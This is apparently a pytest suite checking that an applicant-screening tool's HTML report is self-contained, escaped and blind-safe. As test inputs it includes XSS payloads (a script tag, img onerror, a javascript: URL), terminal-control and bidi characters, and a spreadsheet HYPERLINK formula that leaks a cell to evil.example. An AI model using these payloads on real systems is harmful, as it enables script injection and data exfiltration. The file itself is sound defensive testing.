"""The HTML report: self-contained, escaped, and rendered for real in headless Chromium.

Every test runs the real CLI on real files and reads the HTML back with ``html.parser``: the
shortlist with what separates each applicant from the next, e-mail links, must-have reasons in
words, duplicates and late applicants by name, adjustments and decisions from a project's store,
and nothing of anyone's identity under ``--blind``."""

from __future__ import annotations

import csv
import importlib.util
import io
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from conftest import DATA, RUBRIC, SAMPLE, cli
from screener.core.rubric import load_rubric

ARTIFACTS = Path(__file__).resolve().parent / "artifacts"
MINIMAL = DATA / "rubrics" / "minimal.yaml"
HOSTILE = DATA / "hostile"

# What the report may contain: no script, image, frame, form, link or style attribute.
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "code", "div", "span", "b",
                "br", "svg", "rect", "text", "table", "thead", "tbody", "tr", "th", "td", "details", "summary", "a"}
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\x00", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069")
BLOCK = {"div", "br", "p", "td", "th", "tr", "table", "h1", "h2", "h3", "details", "summary"}
VOID = {"meta", "br", "img", "input", "link", "hr", "wbr", "source", "col", "area", "base", "embed"}


# -- a small DOM, from html.parser -----------------------------------------------------------------

@dataclass
class Node:
    tag: str
    attrs: dict[str, str]
    children: list[Node | str] = field(default_factory=list)

    def text(self) -> str:
        """The text as a browser lays it out, near enough: blocks and line breaks apart."""
        return "".join(c if isinstance(c, str) else f" {c.text()} " if c.tag in BLOCK else c.text()
                       for c in self.children)

    def words(self) -> str:
        """The text with runs of white space as one space."""
        return " ".join(self.text().split())

    def walk(self) -> Iterator[Node]:
        for child in self.children:
            if isinstance(child, Node):
                yield child
                yield from child.walk()

    def find_all(self, tag: str, cls: str | None = None) -> list[Node]:
        return [n for n in self.walk() if n.tag == tag and (cls is None or cls in n.attrs.get("class", "").split())]

    def find(self, tag: str, cls: str | None = None) -> Node:
        found = self.find_all(tag, cls)
        assert found, f"no <{tag} class={cls}>"
        return found[0]


class _Tree(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#root", {})
        self.stack = [self.root]
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        node = Node(tag, {k: v or "" for k, v in attrs})
        self.stack[-1].children.append(node)
        if tag not in VOID:
            self.stack.append(node)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self.stack[-1].children.append(Node(tag, {k: v or "" for k, v in attrs}))

    def handle_endtag(self, tag: str) -> None:
        for depth in range(len(self.stack) - 1, 0, -1):
            if self.stack[depth].tag == tag:
                del self.stack[depth:]
                return

    def handle_data(self, data: str) -> None:
        self.stack[-1].children.append(data)


@dataclass
class Page:
    root: Node
    tags: list[tuple[str, list[tuple[str, str | None]]]]

    def section(self, anchor: str) -> Node:
        """The h2 with this id and everything after it up to the next h2, as one node."""
        body = self.root.find("body")
        out = Node("#section", {})
        inside = False
        for child in body.children:
            if isinstance(child, Node) and child.tag == "h2":
                if inside:
                    break
                inside = child.attrs.get("id") == anchor
            if inside:
                out.children.append(child)
        assert out.children, f"no section #{anchor}"
        return out


def parse(html: str) -> Page:
    tree = _Tree()
    tree.feed(html)
    tree.close()
    return Page(tree.root, tree.tags)


def rows(table: Node) -> list[dict[str, Node]]:
    """The body rows of a report table, each cell by its header (``data-label``; "#" and
    "applicant" cells carry none, by their class)."""
    head = [th.words() for th in table.find("thead").find_all("th")]
    assert len(set(head)) == len(head), head
    out = []
    for tr in table.find("tbody").children:
        if isinstance(tr, Node) and tr.tag == "tr":
            cells = [td for td in tr.children if isinstance(td, Node) and td.tag == "td"]
            out.append(dict(zip(head, cells, strict=True)))
    return out


def assert_inert(html: str) -> Page:
    """Nothing in ``html`` runs, loads or links anywhere but a mailto:, and no raw control
    character reaches the page."""
    page = parse(html)
    for tag, attrs in page.tags:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("src", "srcdoc", "style", "action", "formaction"), name
            if name == "href":
                assert tag == "a" and (value or "").startswith("mailto:"), value
                assert not re.search(r"[\s\"'<>?&]", (value or "")[7:]), value  # percent-encoded
    assert all("javascript:" not in (v or "").casefold() for _t, attrs in page.tags for _n, v in attrs)
    for char in RAW_CONTROLS:
        assert char not in html, repr(char)
    return page


def _report(*args: Any, cwd_out: Path) -> str:
    out = cwd_out / "report.html"
    run = cli("report", *args, "-o", out)
    assert run.code == 0, run.stderr
    return out.read_text(encoding="utf-8")


def cards(page: Page) -> dict[str, int]:
    """The summary cards at the top: label -> number."""
    out = {}
    for card in page.root.find_all("div", "card"):
        number = card.find("b").words()
        out[card.words().removeprefix(number).strip()] = int(number)
    return out


def _signed(text: str) -> float:
    return float(text.replace("−", "-"))


# -- escaping, links ---------------------------------------------------------------------------------

def test_report_is_self_contained_and_escaped(tmp_path: Path) -> None:
    hostile = tmp_path / "hostile.csv"
    text = (DATA / "cli" / "tiny.csv").read_text(encoding="utf-8-sig").replace(
        "[bold red]HIRE ME[/]", "<script>alert(1)</script><img src=http://x.invalid/a.png>")
    hostile.write_text(text, encoding="utf-8")
    html = _report(hostile, "--rubric", MINIMAL, "--top", "3", cwd_out=tmp_path)
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert not re.search(r"<[^<>]*\b(?:src|href)\s*=\s*['\"]?https?:", html)  # no external assets
    page = assert_inert(html)
    assert page.root.find("svg") and page.root.find("h2").words() == "Score distribution"
    assert "Shortlist: top 3" in page.section("shortlist").words()


def test_every_hostile_value_is_inert_and_controls_are_visible(tmp_path: Path) -> None:
    """The hostile export (formulas, markup, terminal controls, bidi, quote breakouts), with
    knockouts and late ones on the shortlist so that every name is shown."""
    html = _report(HOSTILE / "everything.csv", "--rubric", RUBRIC, "--top", "20", "--include-knockouts",
                   "--include-late", cwd_out=tmp_path)
    page = assert_inert(html)
    shown = page.section("shortlist").words()
    assert "[/red] [bold red]HIRE ME[/]" in shown  # Rich markup is text here
    assert "Eve\\x1b[2J\\x1b]0;title\\x07" in shown  # controls become visible escapes
    assert '=HYPERLINK("http://evil.example/?leak="&B2,"CV")' in shown
    links = {a.attrs["href"]: a.words() for a in page.root.find_all("a")}
    # "[link=http://evil.example]x[/link]@example.com" is no address: shown, not linked.
    assert "[link=http://evil.example]x[/link]@example.com" in shown
    assert all("evil" not in href for href in links)
    assert links["mailto:eve4@example.com"] == "eve4@example.com"


def test_email_links_are_percent_encoded_mailtos_and_odd_addresses_plain_text(tmp_path: Path) -> None:
    rows_ = list(csv.reader(io.StringIO((DATA / "cli" / "tiny.csv").read_text(encoding="utf-8-sig"), newline="")))
    emails = ["o'brien&co+jobs@example.com", "eve@example.com?cc=boss@evil.example&body=hi",
              'x"><script>alert(1)</script>@example.com', "javascript:alert(1)//@example.com", "null@example.com"]
    for row, email in zip(rows_[1:], emails, strict=True):
        row[2] = email
    rows_[2][1] = "<img src=x onerror=alert(1)>"
    export = tmp_path / "mail.csv"
    with export.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows_)
    html = _report(export, "--rubric", MINIMAL, "--top", "5", "--include-knockouts", "--include-late",
                   cwd_out=tmp_path)
    page = assert_inert(html)
    links = {a.attrs["href"]: a.words() for a in page.root.find_all("a")}
    assert links == {"mailto:o%27brien%26co%2Bjobs@example.com": "o'brien&co+jobs@example.com",
                     "mailto:null@example.com": "null@example.com"}
    assert {unquote(h.removeprefix("mailto:")) for h in links} == {emails[0], emails[4]}
    shortlist = page.section("shortlist")
    applicants = [r["applicant"].words() for r in rows(shortlist.find("table"))]
    assert len(applicants) == 5
    for email in emails[1:4]:  # shown as written, never linked
        assert any(email in a for a in applicants), email
    assert any("<img src=x onerror=alert(1)>" in a for a in applicants)


def test_knockouts_on_a_shortlist_that_includes_them_are_words(tmp_path: Path) -> None:
    html = _report(DATA / "cli" / "tiny.csv", "--rubric", MINIMAL, "--top", "5", "--include-knockouts",
                   "--include-late", cwd_out=tmp_path)
    shortlist = rows(assert_inert(html).section("shortlist").find("table"))
    musts = {re.search(r"id (\S+)$", r["applicant"].words())[1]: r["must-haves"].words()  # type: ignore[index]
             for r in shortlist}
    assert musts["2"] == ("fail Degree or experience failed — Bachelor in CS: the subject is not one asked for; "
                          "Five years: below the minimum")
    assert musts["3"] == "pass"
    assert musts["4"].startswith("unknown Degree or experience unknown — Bachelor in CS: left blank")
    assert not any(code in " ".join(musts.values()) for code in ("must_degree", "below_min", "subject_mismatch"))


# -- the shortlist: rank gaps ------------------------------------------------------------------------

def test_shortlist_explains_each_rank_gap_and_the_cut(tmp_path: Path) -> None:
    scored = tmp_path / "scored.csv"
    assert cli("score", SAMPLE / "applicants.csv", "--rubric", RUBRIC, "-f", "csv", "-o", scored).code == 0
    table = {r["rank"]: r for r in csv.DictReader(io.StringIO(scored.read_text(encoding="utf-8-sig")))}
    labels = [(c.id, c.label) for c in load_rubric(RUBRIC).criteria]
    html = _report(SAMPLE / "applicants.csv", "--rubric", RUBRIC, "--top", "10", cwd_out=tmp_path)
    page = assert_inert(html)
    section = page.section("shortlist")
    shortlist = rows(section.find("table"))
    assert len(shortlist) == 10
    ranks = [r["#"].words() for r in shortlist]
    for i, row in enumerate(shortlist):
        rank = ranks[i]
        assert table[rank]["name"] in row["applicant"].words() and f"id {table[rank]['id']}" in row["applicant"].words()
        lead = row["ahead of the next"].words()
        m = re.fullmatch(r"([+−]\d+\.\d) over #(\d+) (.+?): (.+)", lead)
        assert m, lead
        nxt = m[2]
        if i + 1 < len(ranks):
            assert nxt == ranks[i + 1]
        assert table[nxt]["name"] == m[3]
        gap = float(table[rank]["score"]) - float(table[nxt]["score"])
        assert _signed(m[1]) == pytest.approx(gap, abs=0.051)
        diffs = sorted(((label, float(table[rank][f"{cid}.points"]) - float(table[nxt][f"{cid}.points"]))
                        for cid, label in labels), key=lambda d: -abs(d[1]))
        named = [re.fullmatch(r"(.+) ([+−]\d+\.\d)", part) for part in m[4].split(", ")]
        assert all(named) and 1 <= len(named) <= 3
        # The criteria named are the ones that differ most, largest first, with their signs.
        for got, (label, diff) in zip(named, diffs, strict=False):
            assert got is not None and got[1] == label and _signed(got[2]) == pytest.approx(diff, abs=0.051)
    cut = section.find("p", "cut").words()
    last = ranks[-1]
    assert cut.startswith(f"At the cut. #{last} {table[last]['name']} ({float(table[last]['score']):.1f}) is the last "
                          "on the shortlist;")
    first_out = re.search(r"; #(\d+) (.+?) \((\d+\.\d)\) is the first ranked below the top 10\. Between them: "
                          r"([+−]\d+\.\d): ", cut)
    assert first_out, cut
    assert table[first_out[1]]["name"] == first_out[2] and int(first_out[1]) > int(last)
    left_out = {r["id"] for r in csv.DictReader(io.StringIO(scored.read_text(encoding="utf-8-sig")))
                if int(last) < int(r["rank"]) < int(first_out[1])}
    assert len(left_out) == int(first_out[1]) - int(last) - 1  # the ones between were left out for other reasons


# -- must-haves in words, duplicates and late ones by name -------------------------------------------

def test_must_have_reasons_are_words_with_what_was_expected(tmp_path: Path) -> None:
    html = _report(SAMPLE / "applicants.csv", "--rubric", RUBRIC, "--top", "10", cwd_out=tmp_path)
    page = assert_inert(html)
    section = page.section("must-haves")
    words = section.words()
    for code in ("below_min", "subject_mismatch", "subject_blank", "unreadable", "degree_or_experience",
                 "relevant_degree:", "equivalent_experience"):
        assert code not in words, code
    assert section.find("h3").words() == "Degree or equivalent experience"
    expected = next(p.words() for p in section.find_all("p", "note") if p.words().startswith("Expected:"))
    assert "Expected: any one of: CS/engineering degree (degree: at least bachelor" in expected
    assert "5+ years instead of a degree (pm_years: at least 5 years)" in expected
    assert "The posting: “Bachelor's degree in computer science" in expected
    table = {(r["outcome"].words(), r["why"].words()): int(r["applicants"].words())
             for r in rows(section.find("table"))}
    # An any-of's parts, one a line, each by its label.
    assert table[("failed", "CS/engineering degree: the subject is not one asked for 5+ years instead of a degree: "
                  "below the minimum")] == 341
    assert table[("unknown", "CS/engineering degree: left blank 5+ years instead of a degree: below the "
                  "minimum")] == 24
    assert sum(n for (outcome, _), n in table.items() if outcome == "failed") == cards(page)["must-have failed"]


def test_duplicates_and_late_applicants_are_named(tmp_path: Path) -> None:
    scored = tmp_path / "scored.csv"
    assert cli("score", SAMPLE / "applicants.csv", "--rubric", RUBRIC, "-f", "csv", "-o", scored).code == 0
    people = list(csv.DictReader(io.StringIO(scored.read_text(encoding="utf-8-sig"))))
    by_id = {r["id"]: r for r in people}
    html = _report(SAMPLE / "applicants.csv", "--rubric", RUBRIC, "--top", "10", cwd_out=tmp_path)
    page = assert_inert(html)
    groups = rows(page.section("duplicates").find("table"))
    expected_groups = {r["duplicate_group"] for r in people if r["duplicate_group"]}
    assert {g["group (newest)"].words() for g in groups} == expected_groups
    for group in groups:
        gid = group["group (newest)"].words()
        apps = group["applications, oldest first"].find_all("div", "app")
        members = [r for r in people if r["duplicate_group"] == gid]
        assert len(apps) == len(members)
        for app in apps:
            entry = by_id[app.find("b").words()]
            assert entry["name"].strip() in app.words() and ("newest" in app.words()) == (entry["id"] == gid)
            link = app.find("a")
            assert unquote(link.attrs["href"].removeprefix("mailto:")) == entry["email"].strip()
    late = rows(page.section("late").find("table"))
    assert len(late) == sum(r["late"] == "yes" for r in people) == 47
    for row in late:
        entry = by_id[re.search(r"id (\S+)$", row["applicant"].words())[1]]  # type: ignore[index]
        assert entry["late"] == "yes" and entry["name"].strip() in row["applicant"].words()
        assert row["#"].words() == entry["rank"] and row["submitted"].words().endswith("UTC")


# -- blind ---------------------------------------------------------------------------------------------

def _fixture_script() -> Any:
    spec = importlib.util.spec_from_file_location("make_fixtures", HOSTILE / "make_fixtures.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_blind_report_shows_no_identity_anywhere(tmp_path: Path) -> None:
    fx = _fixture_script()
    secrets = [*fx.BLIND_SECRETS, "James Bond", "HIRE ME", "Doe-Smith", "janedoe", "Long Letter", "Nan nan"]
    secrets += [o.get("Email") or f"applicant{rid}@example.com" for rid, o in fx.ROWS]
    html = _report(HOSTILE / "everything.csv", "--rubric", RUBRIC, "--top", "20", "--include-knockouts",
                   "--include-late", "--blind", cwd_out=tmp_path)
    page = assert_inert(html)
    assert not page.root.find_all("a") and "mailto" not in html and "@" not in page.root.find("body").text()
    for secret in secrets:
        assert secret not in html, secret
    shortlist = rows(page.section("shortlist").find("table"))
    assert shortlist and all(re.fullmatch(r"P-[A-Z2-7]{8}", r["applicant"].words()) for r in shortlist)
    # The sample: names of the real shortlist, duplicates and late ones appear nowhere blind.
    named = parse(_report(SAMPLE / "applicants.csv", "--rubric", RUBRIC, "--top", "10", cwd_out=tmp_path))
    names = {b.words() for b in named.root.find_all("span", "who") for b in [b.find("b")]}
    blind = _report(SAMPLE / "applicants.csv", "--rubric", RUBRIC, "--top", "10", "--blind", cwd_out=tmp_path)
    page = assert_inert(blind)
    assert len(names) > 100 and not page.root.find_all("a")
    text = page.root.find("body").words()
    for name in names:
        assert name not in text, name
    groups = rows(page.section("duplicates").find("table"))
    assert len(groups) == 35 and all(re.fullmatch(r"P-[A-Z2-7]{8}", g["group (newest)"].words()) for g in groups)
    assert all(re.fullmatch(r"P-[A-Z2-7]{8}", r["applicant"].words()) for r in rows(page.section("late").find("table")))


# -- the project's store: adjustments and decisions ----------------------------------------------------

def _write_export(path: Path, n: int) -> Path:
    """The first ``n`` sample applications as a Cognito CSV."""
    head, *body = list(csv.reader(io.StringIO((SAMPLE / "applicants.csv").read_text(encoding="utf-8-sig"),
                                              newline="")))
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows([head, *body[:n]])
    return path


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SCREENER_RUBRIC", raising=False)
    assert cli("init", "--rubric", RUBRIC, "--exports", "exports/*.csv").code == 0
    _write_export(tmp_path / "exports" / "a.csv", 200)
    assert cli("run").code == 0
    return tmp_path


def test_store_report_shows_adjustments_and_decisions_and_ranks_by_the_shown_score(project: Path) -> None:
    assert cli("shortlist", "--top", "10", "-o", "before.csv").code == 0
    before = list(csv.DictReader(io.StringIO((project / "before.csv").read_text(encoding="utf-8-sig"))))
    top, second, fifth = before[0]["id"], before[1]["id"], before[4]["id"]
    left = list(csv.DictReader(io.StringIO((project / "before-left-out.csv").read_text(encoding="utf-8-sig"))))
    riser = next(r for r in left if r["left_out_because"].startswith("ranked below the top"))
    note = "strong portfolio <b>seen</b> in interview & \"references\""
    run = cli("adjust", riser["id"], "+30", "--note", note, env={"SCREENER_USER": "maria"})
    assert run.code == 0, run.stderr
    assert cli("adjust", fifth, "+5", "--note", "second look").code == 0
    assert cli("status", top, "advanced", "--note", "call on Monday <script>").code == 0
    assert cli("status", second, "declined").code == 0
    assert cli("status", second, "hold", "--note", "wait for the team").code == 0

    html = _report("--top", "10", cwd_out=project)
    page = assert_inert(html)
    shortlist = rows(page.section("shortlist").find("table"))
    shown = [float(r["score"].find("b").words() if r["score"].find_all("b") else r["score"].words())
             for r in shortlist]
    buckets = [["pass", "unknown", "fail"].index(r["must-haves"].words().split()[0]) for r in shortlist]
    order = list(zip(buckets, [-v for v in shown], strict=True))
    assert order == sorted(order)  # ranked by what is shown (the adjusted score), within the bucket
    ids = [re.search(r"id (\S+)$", r["applicant"].words())[1] for r in shortlist]  # type: ignore[index]
    assert riser["id"] in ids
    risen = shortlist[ids.index(riser["id"])]
    computed = float(riser["score"])
    adjusted = min(100.0, computed + 30)
    assert risen["score"].words() == f"{adjusted:.1f} computed {computed:.1f} adjusted +30.0"
    assert ranks_ascend([r["#"].words() for r in shortlist])
    # Someone adjusted into the shortlist pushes the last one out: the cut says who is next.
    assert page.section("shortlist").find("p", "cut").words().startswith("At the cut.")
    decided = shortlist[ids.index(top)]["decision"].words()
    assert decided.startswith("advanced") and "call on Monday <script>" in decided and "UTC" in decided

    table = rows(page.section("adjustments").find("table"))
    by_id = {re.search(r"id (\S+)$", r["applicant"].words())[1]: r for r in table}  # type: ignore[index]
    assert set(by_id) == {riser["id"], fifth, top, second}
    row = by_id[riser["id"]]
    assert row["computed"].words() == f"{computed:.1f}" and row["adjustment"].words() == "+30.0"
    assert row["adjusted"].words() == f"{adjusted:.1f}" and row["why (note)"].words() == note
    assert row["by, when"].words().startswith("maria · ") and row["by, when"].words().endswith(" UTC")
    assert by_id[second]["decision"].words().startswith("hold") and "declined" not in html
    assert "wait for the team" in by_id[second]["decision"].words()
    assert by_id[top]["adjustment"].words() == "—" and by_id[top]["adjusted"].words() == by_id[top]["computed"].words()
    listed = [int(r["#"].words()) for r in table]
    assert listed == sorted(listed)
    assert cards(page)["adjusted"] == 2 and cards(page)["decided"] == 2

    blind = _report("--top", "10", "--blind", cwd_out=project)
    page = assert_inert(blind)
    assert not page.root.find_all("a") and "@" not in page.root.find("body").text()
    for entry in before:
        assert entry["name"] not in blind and entry["email"] not in blind
    adjustments = rows(page.section("adjustments").find("table"))
    assert len(adjustments) == 4 and all(re.fullmatch(r"P-[A-Z2-7]{8}", r["applicant"].words()) for r in adjustments)
    assert any(r["why (note)"].words() == note for r in adjustments)


def ranks_ascend(ranks: list[str]) -> bool:
    return [int(r) for r in ranks] == sorted(int(r) for r in ranks)


def test_a_report_from_an_export_has_no_adjustments_section(tmp_path: Path) -> None:
    page = parse(_report(DATA / "cli" / "tiny.csv", "--rubric", MINIMAL, "--top", "3", cwd_out=tmp_path))
    assert all(h.attrs.get("id") != "adjustments" for h in page.root.find_all("h2"))
    assert "decision" not in [th.words() for th in page.section("shortlist").find("thead").find_all("th")]


# -- the adverse-impact summary ------------------------------------------------------------------------

def test_impact_summary_shows_the_single_dimensions(tmp_path: Path) -> None:
    html = _report(SAMPLE / "applicants.csv", "--rubric", RUBRIC, "--self-id", SAMPLE / "self_id.csv", "--top", "50",
                   cwd_out=tmp_path)
    page = assert_inert(html)
    table = rows(page.section("impact").find("table"))
    assert table and all("×" not in r["dimension"].words() for r in table)
    head = [th.words() for th in page.section("impact").find("thead").find_all("th")]
    assert head[:4] == ["dimension", "group", "people", "selection rate"] and head[-1] == "flag"
    for row in table:  # a rate, and its interval when the audit gives one
        for rate in (row["selection rate"].words(), row["scoring rate"].words()):
            assert re.fullmatch(r"(—|\d+\.\d%)( \(\d+\.\d%–\d+\.\d%\))?", rate), rate
    assert all(re.fullmatch(r"—|\d+\.\d\d( \(\d+\.\d\d–(\d+\.\d\d|∞)\))?", r[ratio].words())
               for r in table for ratio in ("selection impact ratio", "scoring impact ratio"))


# -- Chromium: what a person sees ------------------------------------------------------------------------

def _chromium() -> str | None:
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    if found or os.geteuid() != 0 or not (os.environ.get("CI") or os.environ.get("SCREENER_INSTALL_CHROMIUM")):
        return found
    subprocess.run(["apt-get", "update"], capture_output=True, check=False, timeout=600)
    subprocess.run(["apt-get", "install", "-y", "--no-install-recommends", "chromium"], capture_output=True,
                   check=False, timeout=1200)
    return shutil.which("chromium")


def _browser(tmp_path: Path) -> tuple[str, list[str]]:
    browser = _chromium()
    if browser is None:
        pytest.skip("Chromium is not installed and could not be installed here (needs root and CI=1, or "
                    "SCREENER_INSTALL_CHROMIUM=1)")
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--hide-scrollbars",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             f"--user-data-dir={tmp_path / 'profile'}"]
    return browser, flags


def _screenshot(browser: str, flags: list[str], page: Path, shot: Path, size: str) -> None:
    subprocess.run([browser, *flags, f"--window-size={size}", f"--screenshot={shot}", page.as_uri()],
                   capture_output=True, timeout=120, check=True)
    assert shot.stat().st_size > 50_000  # a real page, not a blank one


def _dom(browser: str, flags: list[str], page: Path, size: str = "1280,1800") -> str:
    return subprocess.run([browser, *flags, f"--window-size={size}", "--dump-dom", page.as_uri()],
                          capture_output=True, text=True, timeout=120, check=True).stdout


def test_report_renders_in_headless_chromium(tmp_path: Path) -> None:
    """The sample's report at desktop and phone widths (tests/artifacts/report*.png, for a person
    to look at), and the DOM Chromium builds from it."""
    browser, flags = _browser(tmp_path)
    out = tmp_path / "report.html"
    run = cli("report", SAMPLE / "applicants.csv", "--rubric", RUBRIC, "--self-id", SAMPLE / "self_id.csv",
              "--top", "10", "-o", out)
    assert run.code == 0, run.stderr
    ARTIFACTS.mkdir(exist_ok=True)
    _screenshot(browser, flags, out, ARTIFACTS / "report.png", "1280,2400")
    _screenshot(browser, flags, out, ARTIFACTS / "report-phone.png", "390,2400")
    dom = _dom(browser, flags, out)
    assert dom.count("<rect") >= 5 and "Adverse-impact summary" in dom and "impact ratio" in dom
    assert "1200" in dom and "must-haves pass" in dom
    page = parse(dom)
    assert len(rows(page.section("shortlist").find("table"))) == 10
    assert page.section("shortlist").find("p", "cut").words().startswith("At the cut.")
    assert len(page.root.find_all("a")) > 100  # e-mail links: shortlist, duplicates, late
    for anchor in ("must-haves", "duplicates", "late", "impact"):
        assert page.section(anchor).find("table")


def test_store_report_renders_in_headless_chromium(project: Path) -> None:
    browser, flags = _browser(project)
    assert cli("shortlist", "--top", "5", "-o", "s.csv").code == 0
    chosen = list(csv.DictReader(io.StringIO((project / "s.csv").read_text(encoding="utf-8-sig"))))
    assert cli("adjust", chosen[-1]["id"], "+25", "--note", "portfolio <i>seen</i>", env={"SCREENER_USER": "maria"}
               ).code == 0
    assert cli("status", chosen[0]["id"], "advanced", "--note", "call on Monday").code == 0
    out = project / "report.html"
    assert cli("report", "--top", "5", "-o", out).code == 0
    ARTIFACTS.mkdir(exist_ok=True)
    _screenshot(browser, flags, out, ARTIFACTS / "report-store.png", "1280,1800")
    _screenshot(browser, flags, out, ARTIFACTS / "report-store-phone.png", "390,2400")
    dom = _dom(browser, flags, out)
    page = parse(dom)
    table = rows(page.section("adjustments").find("table"))
    assert len(table) == 2 and any(r["adjustment"].words() == "+25.0" for r in table)
    assert "portfolio <i>seen</i>" in page.section("adjustments").words()
    shortlist = {re.search(r"id (\S+)$", r["applicant"].words())[1]: r  # type: ignore[index]
                 for r in rows(page.section("shortlist").find("table"))}
    assert shortlist[chosen[0]["id"]]["applicant"].find("a") and "advanced" in shortlist[chosen[0]["id"]][
        "decision"].words()
    assert list(shortlist)[0] == chosen[-1]["id"]  # +25 took the last one to the top
